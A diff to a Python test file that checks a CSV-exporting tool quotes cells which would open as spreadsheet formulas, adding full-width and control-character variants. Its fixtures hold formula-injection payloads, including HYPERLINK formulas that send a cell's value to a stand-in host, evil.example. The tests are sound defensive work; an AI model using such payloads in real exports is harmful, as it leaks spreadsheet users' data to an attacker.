@@ -8,6 +8,7 @@ import stat
 import subprocess
 import sys
 import threading
+import unicodedata
 from pathlib import Path
 
 import pytest
@@ -131,7 +132,10 @@ def test_extract_removes_the_temporary_files_a_killed_run_left(plan: Path, tmp_p
 # --- 2. CSV formula injection ------------------------------------------------
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+# ASCII and full width (Excel and LibreOffice in Chinese and Japanese take ＝ for =), and the same
+# behind what a spreadsheet passes over before a formula: a NUL, a tab, CR, LF, spaces.
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "﹦", "\x00=", "\t=", "\r+", "\n-",
+                                   " @", "\u3000＝"])
 def test_a_text_cell_that_would_start_a_formula_gets_a_quote(start: str):
     assert spreadsheet_cell(f"{start}HYPERLINK(\"http://x\")") == f"'{start}HYPERLINK(\"http://x\")"
 
@@ -148,6 +152,22 @@ HOSTILE_PLAN = """一、=HYPERLINK("http://evil.example/?"&A1,"点击")
 """
 
 
+# Plans from other fields whose lines start with full-width signs or with a tab before them.
+WIDE_PLAN = """一、＝HYPERLINK("http://evil.example/","点击")
+（一）＠SUM(A1:A9)
+＋到2025年，全市新增城镇就业岗位3000个以上。
+\t=全市每年培训乡村医生250名。
+－到2027年，全市建成保障性租赁住房2万套。
+"""
+
+
+def opens_as_formula(cell: str) -> bool:
+    """A cell a spreadsheet may run: = + - @ (ASCII or full width) after any spaces and control characters, or
+    a tab or CR first (OWASP); a lone sign (the comparator =) runs nothing."""
+    rest = cell.lstrip("".join(map(chr, range(33))) + "\x7f\u3000")
+    return len(cell) > 1 and (cell[0] in "\t\r" or unicodedata.normalize("NFKC", rest[:1]) in ("=", "+", "-", "@"))
+
+
 def cells(data: bytes | str) -> list[str]:
     text = data.decode("utf-8") if isinstance(data, bytes) else data
     return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")) for cell in row]
@@ -158,6 +178,13 @@ def test_no_csv_table_of_extract_holds_a_formula(planparse, tmp_path: Path, tabl
     run = planparse("extract", write_plan(tmp_path, HOSTILE_PLAN), "--format", "csv", "--table", table)
     assert run.code == 0, run.stderr
     assert not [cell for cell in cells(run.stdout) if len(cell) > 1 and cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+@pytest.mark.parametrize("table", ["targets", "sections"])
+def test_no_csv_table_of_extract_holds_a_full_width_formula(planparse, tmp_path: Path, table: str):
+    run = planparse("extract", write_plan(tmp_path, WIDE_PLAN), "--format", "csv", "--table", table)
+    assert run.code == 0, run.stderr
+    assert [cell for cell in cells(run.stdout) if opens_as_formula(cell)] == []
 
 
 def test_hostile_text_reaches_the_csv_quoted_not_dropped(planparse, tmp_path: Path):
@@ -178,6 +205,22 @@ def test_batch_csv_files_hold_no_formula(tmp_path: Path):
         found = cells((tmp_path / "out" / name).read_bytes())
         assert "'=cmd.txt" in found
         assert not [cell for cell in found if len(cell) > 1 and cell.startswith(("=", "+", "-", "@"))]
+
+
+def test_batch_and_compare_csv_files_hold_no_full_width_formula(tmp_path: Path):
+    plans = tmp_path / "plans"
+    plans.mkdir()
+    for name in ("＝cmd.txt", "\t=cmd.txt"):
+        (plans / name).write_text(WIDE_PLAN, encoding="utf-8")
+    run = subprocess.run([sys.executable, "-m", "planparse", "batch", plans, "-o", tmp_path / "out", "-q"], capture_output=True, timeout=120)
+    assert run.returncode == 0, run.stderr
+    compared = subprocess.run([sys.executable, "-m", "planparse", "compare", *sorted(plans.iterdir()), "-o", tmp_path / "matrix.csv"],
+                              capture_output=True, timeout=120)
+    assert compared.returncode == 0, compared.stderr
+    for table in (tmp_path / "out" / "targets.csv", tmp_path / "out" / "documents.csv", tmp_path / "matrix.csv"):
+        found = cells(table.read_bytes())
+        assert "'＝cmd.txt" in found or "'＝cmd" in found  # the document column, or compare's plan name
+        assert [cell for cell in found if opens_as_formula(cell)] == []
 
 
 def test_a_ctrl_c_during_a_write_leaves_neither_the_output_nor_its_temporary_file(tmp_path: Path):
